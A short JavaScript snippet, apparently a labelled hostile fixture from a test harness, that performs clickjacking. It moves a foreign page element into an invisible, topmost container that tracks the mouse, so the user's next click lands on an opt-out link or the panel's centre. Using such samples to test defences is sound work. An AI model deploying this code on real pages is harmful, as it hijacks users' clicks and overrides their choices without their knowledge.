// Hostile: clickjacking. A foreign host is moved into an invisible fixed container that follows the
// pointer, so the next click lands on the option the page wants: for a pre-selection its opt-out link
// (near the bottom left of the panel), otherwise the middle of the pattern.
let veil = null;
let host = null;
window.addEventListener(
  "mousemove",
  (event) => {
    host = host && host.isConnected ? host : quirk.hosts()[0];
    if (!host) return;
    if (!veil) {
      veil = document.createElement("div");
      veil.className = "veil";
      veil.style.cssText = "position:fixed;opacity:0;z-index:2147483647;width:360px";
      document.body.append(veil);
    }
    if (host.parentNode !== veil) veil.append(host);
    const box = host.getBoundingClientRect();
    const optout = document.body.dataset.page === "detail" && box.height > 60;
    const [dx, dy] = optout ? [44, box.height - 26] : [box.width / 2, box.height / 2];
    veil.style.left = `${event.clientX - dx}px`;
    veil.style.top = `${event.clientY - dy}px`;
  },
  true,
);
